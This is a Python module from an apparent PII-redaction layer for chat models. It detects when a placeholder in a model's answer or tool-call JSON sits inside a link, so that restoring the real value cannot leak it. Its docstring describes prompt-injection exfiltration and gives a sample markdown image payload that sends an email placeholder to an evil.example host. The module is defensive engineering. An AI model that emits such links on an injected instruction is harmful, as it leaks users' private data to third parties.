"""Whether a placeholder in an answer sits inside a link (``in_link``): restore keeps such a
placeholder as it is (``pii.restore_in_links: false``, the default), so that an answer a
prompt injection shaped (``![x](https://evil.example/?q=<EMAIL_1>)``) cannot carry the
caller's value to a third party when a chat UI renders it (an image loads with no click).

The decision reads only the text *before* the placeholder, at most ``WINDOW`` characters of
it, in the model's own text (placeholders not yet restored). So a stream decides exactly as
the whole answer does, whatever its deltas, and needs to hold back nothing more than a
placeholder cut in half: the left context is text already sent.

A placeholder is in a link when, in that window:

- the run of non-space characters just before it looks like a URL: it holds ``//`` (any
  ``scheme://`` or a protocol-relative ``//host``), a known scheme followed by ``:``
  (``mailto:``, ``tel:``, ``data:``, ``javascript:``, ...), ``www.``, a host name followed by
  a path, query or fragment (``evil.example/``, ``evil.example?``), or a ``%XX`` escape
  (a URL-encoded context);
- or it is inside a markdown link or image target not yet closed (``](...``), an HTML
  URL attribute's value not yet closed (``href=``, ``src=``, ``srcset=``, ``action=``, ...), or
  a CSS ``url(``;
- or the window holds no space at all (spaces are ASCII ones: a no-break space does not end
  a URL for a markdown renderer) (a run longer than the window is never trusted).

``json`` mode reads a tool call's arguments (JSON text): the context is the JSON string the
placeholder sits in (back to its opening, unescaped quote), and the escapes ``\\n``, ``\\t``
and ``\\r`` end a run as spaces do. Being wrong errs on the safe side: a placeholder taken for
a link stays a placeholder, it never leaks.
"""

from __future__ import annotations

import re
import string

WINDOW = 2048  # characters of left context a decision reads
_SCHEMES = (
    "https?|ftps?|wss?|file|mailto|tel|sms|smsto|mms|data|javascript|vbscript|blob|urn|geo|"
    "magnet|callto|im|xmpp|sips?|facetime|skype|whatsapp|tg|intent|market|itms-services|"
    "ipfs|ipns|gopher|irc|ircs|news|nntp|ldap|ssh|sftp|git|svn|rtsp|webcal|feed"
)
_URLISH = re.compile(
    r"//"
    rf"|(?<![a-z0-9+.\-])(?:{_SCHEMES}):(?![\"'])"
    r"|(?<![a-z0-9\-])www\."
    r"|[a-z0-9\-]\.[a-z]{2,63}[/?#]"
    r"|%[0-9a-f]{2}",
    re.IGNORECASE,
)
_ATTRS = ("href", "src", "srcset", "action", "formaction", "poster", "background", "cite",
          "ping", "codebase", "longdesc", "lowsrc", "dynsrc", "data")  # fmt: skip
_ATTR_AT = re.compile(rf"(?:{'|'.join(_ATTRS)})\s*=\s*", re.IGNORECASE)  # matched where found
SPACES = " \t\n\r\f\v"  # ASCII only: a markdown renderer runs a URL through a no-break space
_LOWER = str.maketrans(string.ascii_uppercase, string.ascii_lowercase)  # keeps the length
_JSON_TOKEN = re.compile(r'\\(.)|"', re.DOTALL)


def in_link(before: str, json: bool = False) -> bool:
    """Whether a placeholder right after ``before`` (the text before it, of which the last
    ``WINDOW`` characters are read) sits inside a link."""
    window = before[-WINDOW:]
    full = len(window) >= WINDOW
    run_from = 0
    if json:
        window, run_from, quoted = _json_string(window)
        full = full and not quoted
    start = max(max(window.rfind(c) for c in SPACES) + 1, run_from)
    if full and start == 0:
        return True  # no space in the whole window: a run too long to trust
    if _URLISH.search(window, start):
        return True
    lower = window.translate(_LOWER)
    return _open_target(window) or _open_attr(window, lower) or _open_css(lower)


def _json_string(window: str) -> tuple[str, int, bool]:
    """The part of ``window`` in the JSON string the placeholder sits in, where its last run
    starts (past a ``\\n``/``\\t``/``\\r`` escape), and whether an opening quote was seen."""
    opening, run_from = -1, 0
    for m in _JSON_TOKEN.finditer(window):
        if m.group(0) == '"':
            opening, run_from = m.end(), 0
        elif m.group(1) in ("n", "t", "r"):
            run_from = m.end()
    if opening < 0:
        return window, run_from, False
    return window[opening:], max(run_from - opening, 0), True


def _open_target(window: str) -> bool:
    """Inside a markdown link or image target: after the last ``](``, not yet closed (its
    parentheses balanced, or an ``<...>`` destination's ``>``), on the same line."""
    at = window.rfind("](")
    if at < 0:
        return False
    target = window[at + 2 :]
    if "\n" in target:
        return False
    if target.startswith("<"):
        return ">" not in target
    depth = 1
    for ch in target:
        depth += 1 if ch == "(" else -1 if ch == ")" else 0
        if depth == 0:
            return False
    return True


def _open_attr(window: str, lower: str) -> bool:
    """Inside the value of an HTML URL attribute (the last one in the window), not yet
    closed: a quoted value without its closing quote, an unquoted one without a space."""
    value = _last_attr(window, lower)
    if value is None:
        return False
    if value.startswith("\\"):  # a quote escaped inside a JSON string
        value = value[1:]
    if value[:1] in ('"', "'"):
        return value[0] not in value[1:]
    return not any(ch in SPACES or ch == ">" for ch in value)


def _last_attr(window: str, lower: str) -> str | None:
    """The text after the last ``name=`` of a URL attribute in ``window`` (``lower``: the
    same, lower-cased), or None: found by ``rfind`` (a regex search over the whole window
    costs ten times more, for each placeholder)."""
    end = len(lower)
    while True:
        at = max(lower.rfind(name, 0, end - 1 + len(name)) for name in _ATTRS)
        if at < 0:
            return None
        m = _ATTR_AT.match(window, at)
        if m is not None and (at == 0 or not (lower[at - 1].isalnum() or lower[at - 1] in "_-")):
            return window[m.end() :]
        end = at


def _open_css(lower: str) -> bool:
    """Inside a CSS ``url(`` not yet closed, on the same line."""
    at = lower.rfind("url(")
    if at < 0:
        return False
    rest = lower[at + 4 :]
    return ")" not in rest and "\n" not in rest
